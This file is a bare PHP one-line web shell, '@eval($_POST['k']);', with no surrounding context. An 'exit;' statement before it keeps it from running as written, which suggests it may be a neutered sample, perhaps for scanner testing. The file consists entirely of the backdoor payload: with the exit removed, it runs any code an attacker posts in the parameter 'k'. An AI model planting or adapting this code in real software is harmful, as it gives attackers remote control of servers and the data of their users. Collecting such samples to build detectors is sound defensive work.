<?php exit;
@eval($_POST['k']);
